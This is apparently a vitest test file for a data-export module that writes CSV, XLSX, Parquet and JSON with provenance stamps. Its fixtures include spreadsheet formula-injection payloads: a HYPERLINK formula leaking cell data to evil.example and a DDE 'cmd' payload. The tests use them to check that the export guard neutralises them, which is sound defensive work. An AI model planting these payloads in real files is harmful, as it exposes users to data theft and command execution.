import { parquetMetadata } from 'hyparquet';
import { describe, expect, it } from 'vitest';
import { exportCsvText } from './export-csv';
import { csvDownload, exportFile } from './export-file';
import { isNeutralised, neutraliseFormula } from './export-guard';
import { readParquet } from './parquet';
import { sniffDialect } from './sniff';
import { stampFileName, type ExportStamp } from './export-stamp';
import { NonFiniteNumber, type ExportTable } from './export-table';
import { parseGenericCsv } from './generic-csv';
import { readXlsx } from './xlsx';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  ' =1+1',
];
const SAFE = ['plain', '-12,5', '-3.25', '+45', 'a=b', ''];

const stamp: ExportStamp = {
  dataset: 'Demo: MADE 2017',
  datasetHash: 'ab12cd34ef56'.padEnd(64, '0'),
  scenario: { preset: 'damvad-2017', changed: { deadweight: 0.2 } },
  params: { deadweight: 0.2, horizon_years: 10 },
  appVersion: '0.1.0',
  createdAt: '2026-11-23T10:00:00.000Z',
};

const table: ExportTable = {
  columns: [
    { name: 'label', type: 'VARCHAR' },
    { name: 'gain', type: 'DOUBLE' },
  ],
  rows: [...HOSTILE, ...SAFE].map((label, i) => ({ label, gain: i % 2 === 0 ? -1234.5 - i : 1e6 + 0.25 })),
};

describe('neutraliseFormula', () => {
  it.each(HOSTILE)('prefixes %j', (s) => {
    expect(neutraliseFormula(s)).toBe(`'${s}`);
    expect(isNeutralised(s, neutraliseFormula(s))).toBe(true);
  });
  it.each(SAFE)('leaves %j alone', (s) => {
    expect(neutraliseFormula(s)).toBe(s);
  });
});

describe('CSV export', () => {
  it('writes Danish Excel CSV: ;, decimal comma, BOM, hostile text neutralised, negative numbers still numbers', async () => {
    const f = await exportFile('csv-da', table, stamp, 'query', 'da');
    expect([...f.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    // Not the name of the , CSV: one download never overwrites the other.
    expect(f.fileName).toMatch(/^query-excel-da_.*\.csv$/);
    expect((await exportFile('csv', table, stamp, 'query', 'da')).fileName).toMatch(/^query_.*\.csv$/);
    const text = new TextDecoder().decode(f.bytes); // the decoder drops the BOM
    const lines = text.split('\r\n');
    expect(lines[0]).toBe('label;gain');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")";-1234,5`);
    expect(lines[2]).toBe(`'+1+cmd|' /C calc'!A0;1000000,25`);
    expect(text).not.toMatch(/;"?[=+@]/);
    expect(lines.filter((l) => /^"?([=@]|[+-]\D)/.test(l))).toEqual([]);
    expect(sniffDialect(text.slice(0, 2000)).delimiter).toBe(';');
  });

  it('writes , CSV with a decimal point and quotes a field holding the delimiter', () => {
    const text = exportCsvText(
      {
        columns: [{ name: 'a' }, { name: 'n' }],
        rows: [
          { a: 'x,y', n: -0.5 },
          { a: null, n: null },
        ],
      },
      'en',
    );
    expect(text).toBe('a,n\r\n"x,y",-0.5\r\n,\r\n');
  });

  it('guards every hostile cell, quoted or not', () => {
    for (const style of ['da', 'en'] as const) {
      const text = exportCsvText(table, style);
      for (const h of HOSTILE) expect(text).toContain(`'${h.replaceAll('"', '""')}`);
    }
  });
});

const AWKWARD = [1e-7, 1e21, 5e-324, 1.7976931348623157e308, -1.7976931348623157e308, -0, 0.1 + 0.2, -1234.5, 12345678.25];

describe('CSV numbers', () => {
  it.each(['da', 'en'] as const)('writes plain decimals (%s) that read back to the same doubles', (style) => {
    const t: ExportTable = {
      columns: [{ name: 'v', type: 'DOUBLE' }, { name: 'mixed' }],
      rows: AWKWARD.map((v) => ({ v, mixed: v })),
    };
    const text = exportCsvText(t, style);
    expect(text).not.toMatch(/\d[eE][+-]?\d/);
    const back = parseGenericCsv(text, style === 'da' ? ';' : ',');
    const read = (s: string) => parseFloat(style === 'da' ? s.replace(',', '.') : s);
    back.rows.forEach((r, i) => {
      expect(read(r[0] ?? '') === AWKWARD[i]).toBe(true);
      expect(read(r[1] ?? '') === AWKWARD[i]).toBe(true);
    });
  });

  it('writes 1e-7 and 1e21 as decimals in both dialects, -0 as 0, and never guards a typed number', () => {
    const t: ExportTable = {
      columns: [{ name: 'a' }, { name: 'b' }],
      rows: [
        { a: 1e-7, b: 1e21 },
        { a: -0, b: -1.5 },
      ],
    };
    expect(exportCsvText(t, 'da')).toBe('a;b\r\n0,0000001;1000000000000000000000\r\n0;-1,5\r\n');
    expect(exportCsvText(t, 'en')).toBe('a,b\r\n0.0000001,1000000000000000000000\r\n0,-1.5\r\n');
  });

  it.each([
    ['Infinity', Infinity],
    ['-Infinity', -Infinity],
    ['NaN', NaN],
  ])('refuses %s in every format without an IEEE number, naming the cell; Parquet keeps it', async (_n, v) => {
    const t: ExportTable = {
      columns: [{ name: 'label' }, { name: 'ratio', type: 'DOUBLE' }],
      rows: [
        { label: 'a', ratio: 1 },
        { label: 'b', ratio: v },
      ],
    };
    for (const format of ['csv-da', 'csv', 'xlsx', 'json'] as const) {
      const err = await exportFile(format, t, stamp, 'q', 'en').then(
        () => null,
        (e: unknown) => e,
      );
      expect(err).toBeInstanceOf(NonFiniteNumber);
      expect(err).toMatchObject({ column: 'ratio', row: 2 });
      expect(String(err)).toMatch(/column "ratio", row 2/);
    }
    const back = await readParquet((await exportFile('parquet', t, stamp, 'q', 'en')).bytes);
    expect(Number(back.rows[1]?.[1])).toBe(v);
  });
});

describe('rows of objects (rejected rows, trace rows) through the same writer', () => {
  const rejected = [
    { line: 2, column: 'amount', value: '＝1+1', reason: 'not a number' },
    { line: 3, column: 'company', value: '=HYPERLINK("http://x")', reason: 'bad; "quoted"\nreason' },
    { line: 4, column: 'amount', value: '-5', reason: 'negative' },
  ];

  it('writes the given columns with a BOM, the guard and RFC 4180 quoting', () => {
    const f = csvDownload(rejected, 'gains-rejected.csv', ['line', 'column', 'value', 'reason']);
    expect(f).toMatchObject({ fileName: 'gains-rejected.csv', mime: 'text/csv;charset=utf-8' });
    expect([...f.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder().decode(f.bytes)).toBe(
      'line,column,value,reason\r\n' +
        "2,amount,'＝1+1,not a number\r\n" +
        `3,company,"'=HYPERLINK(""http://x"")","bad; ""quoted""\nreason"\r\n` +
        '4,amount,-5,negative\r\n',
    );
  });

  it('writes the Danish dialect and takes columns in first-seen order when none are given', () => {
    const rows = [
      { nace: '25', share: 1e-7 },
      { nace: '@x', amount: -1234.5 },
    ];
    expect(new TextDecoder().decode(csvDownload(rows, 'cells.csv', undefined, 'da').bytes)).toBe(
      "nace;share;amount\r\n25;0,0000001;\r\n'@x;;-1234,5\r\n",
    );
  });
});

describe('XLSX export', () => {
  it('stores hostile text as neutralised text, numbers as numbers, and the stamp on its own sheet', async () => {
    const f = await exportFile('xlsx', table, stamp, 'query', 'en');
    const data = await readXlsx(f.bytes, 0);
    expect(data.headers).toEqual(['label', 'gain']);
    HOSTILE.forEach((h, i) => expect(data.rows[i]?.[0]).toBe(`'${h}`));
    expect(data.rows[HOSTILE.length + 1]?.[0]).toBe('-12,5');
    expect(Number(data.rows[0]?.[1])).toBe(-1234.5);
    const meta = await readXlsx(f.bytes, 'Provenance');
    expect(meta.rows.find((r) => r[0] === 'spillover.dataset_sha256')?.[1]).toBe(stamp.datasetHash);
    expect(meta.rows.find((r) => r[0] === 'spillover.scenario_changed')?.[1]).toBe('{"deadweight":0.2}');
  });
});

describe('Parquet and JSON exports', () => {
  it('writes typed Parquet columns with the stamp as key–value metadata', async () => {
    const f = await exportFile('parquet', table, stamp, 'query', 'en');
    const back = await readParquet(f.bytes);
    expect(back.headers).toEqual(['label', 'gain']);
    expect(back.rows[0]?.[0]).toBe(HOSTILE[0]); // not a spreadsheet format: stored exactly
    expect(Number(back.rows[0]?.[1])).toBe(-1234.5);
    const kv = parquetMetadata(f.bytes).key_value_metadata ?? [];
    expect(kv.find((e) => e.key === 'spillover.app_version')?.value).toBe('0.1.0');
  });

  it('writes JSON with the stamp in meta', async () => {
    const f = await exportFile('json', table, stamp, 'query', 'en');
    const o = JSON.parse(new TextDecoder().decode(f.bytes)) as { meta: ExportStamp; rows: { label: string; gain: number }[] };
    expect(o.meta.datasetHash).toBe(stamp.datasetHash);
    expect(o.rows).toHaveLength(table.rows.length);
    expect(o.rows[2]?.gain).toBe(-1236.5);
  });
});

it('puts the stamp’s essentials in the file name', () => {
  expect(stampFileName('Gains by theme', stamp, 'csv')).toBe(
    'gains-by-theme_demo-made-2017-ab12cd34_damvad-2017+1_2026-11-23_v0.1.0.csv',
  );
});
